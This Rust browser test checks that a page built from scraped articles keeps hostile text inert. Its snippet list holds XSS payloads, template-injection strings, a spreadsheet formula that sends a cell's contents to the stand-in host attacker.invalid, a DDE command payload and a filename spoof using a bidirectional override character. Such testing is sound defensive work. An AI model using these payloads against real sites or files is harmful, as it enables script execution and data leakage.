//! Text that wants to be more than text: in every field of an article, through the real program, into a real browser.
//!
//! Takes a made-up corpus of it, gives the page as opened and walked through. Nothing of it may run, become an element,
//! or hide: what turns or blanks text is shown by a sign.

use crate::chromium::Tab;
use crate::desk::{Desk, prose, record};
use crate::live::ready;
use crate::{browser, page};
use serde_json::json;

/// What scraped pages could hold.
const SNIPPETS: [&str; 16] = [
    "</script><script>window.harmed = 1</script>",
    "</script ><img src=x onerror=window.harmed=1>",
    "<!-- <script> --><svg onload=window.harmed=1>",
    "\" onmouseover=\"window.harmed=1\" autofocus onfocus=\"window.harmed=1",
    "' style='position:fixed' onclick='window.harmed=1",
    "</style><style>* { display: none }</style>",
    "</textarea></title><iframe srcdoc='<script>parent.harmed=1</script>'></iframe>",
    "<a href=\"javascript:window.harmed=1\">free</a>",
    "&lt;b&gt; &#60;i&#62; &amp;amp; &copy",
    "{{ constructor.constructor('window.harmed=1')() }} {% raw %} ${window.harmed=1} `",
    "=HYPERLINK(\"http://attacker.invalid/?\"&A1) +cmd|' /C calc'!A0 @SUM(1) -1",
    "photo \u{202e}gpj.exe\u{2066} \u{2069}\u{200f}",
    "bell \u{7}\u{1b}[31m red \u{0}\u{8}\u{9b}2J",
    "__proto__ constructor toString hasOwnProperty",
    "⟨…⟩ ⟨ ⟩ ◌\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}",
    "]]> \\u003c/script\\u003e \u{2028}\u{2029} </SCRIPT/x>",
];
/// Elements that the page never has.
const NEVER: &str = "img, iframe, object, embed, form[action], base, link[rel=stylesheet], main a[href^=javascript]";

/// Articles with a snippet in every field; each story twice, once edited.
fn corpus() -> String {
    let mut lines = String::new();
    for (n, snippet) in (0u64..).zip(SNIPPETS) {
        for k in 0..10 {
            let story = prose(n * 10 + k / 2);
            let story = if k % 2 == 0 {
                story
            } else {
                story.replacen(" of a ", &format!(" {snippet} "), 1)
            };
            let id = format!("{k}{snippet}");
            let text =
                format!("{story}\n\n{snippet}\n\nSubscribe to our newsletter {snippet} for free");
            let host = if k % 3 == 0 { snippet } else { "a.example" };
            let (date, url) =
                (format!("2024-03-{:02}", k + 1), format!("https://a.example/{snippet}"));
            let fields = [
                ("id", id.as_str()),
                ("title", snippet),
                ("text", &text),
                ("host", host),
                ("date", &date),
                ("url", &url),
                ("lang", snippet),
            ];
            lines.push_str(&record(&fields));
        }
    }
    // One line of a megabyte, in several articles.
    let long = "Subscribe to all that we write, day by day. ".repeat(24_000);
    for k in 0..4 {
        let text = format!("{}\n\n{long}", prose(5000 + k));
        lines.push_str(&record(&[
            ("id", &format!("long{k}")),
            ("host", "a.example"),
            ("text", &text),
        ]));
    }
    lines
}

fn harmless(tab: &Tab<'_>) {
    assert!(tab.is("window.harmed === undefined"), "something ran");
    assert_eq!(tab.count(NEVER), 0);
    assert_eq!(tab.count("script:not([type])"), 1, "the page's own");
    assert_eq!(tab.count("style"), 1, "the page's own");
    // Of styles, only lengths that the script itself sets.
    let handlers = r"[...document.querySelectorAll('*')].flatMap(e => [...e.attributes])
        .filter(a => a.name.startsWith('on') || (a.name === 'style' && !/^[a-z-]+: \d+px;$/.test(a.value)))
        .map(a => a.name + '=' + a.value)";
    assert_eq!(tab.eval(handlers), json!([]));
    let unseen = r"[...document.body.innerText.matchAll(/[\0-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/g)].length";
    assert_eq!(tab.eval(unseen), 0, "characters that hide or turn text");
    tab.quiet();
}

#[test]
fn is_inert_and_shown_as_text() {
    let Some(browser) = browser() else { return };
    let desk = Desk::with(&[("a.jsonl", corpus().as_bytes())]);
    desk.run("clean in -o out").code(0);
    for scripts in [true, false] {
        let tab = browser.tab();
        if !scripts {
            tab.without_scripts();
        }
        tab.open(&page(&desk));
        if scripts {
            ready(&tab);
            tab.keys("g b Enter j j j PageDown Enter j r n Escape m Escape h Escape w g d j j a n Escape g r g s y w");
        }
        harmless(&tab);
        let text = tab.eval("document.body.textContent");
        let text = text.as_str().unwrap();
        for shown in ["window.harmed", "[U+202E]gpj.exe", "␇", "=HYPERLINK("] {
            assert!(scripts || text.contains(shown), "{shown} is not shown");
        }
    }
}
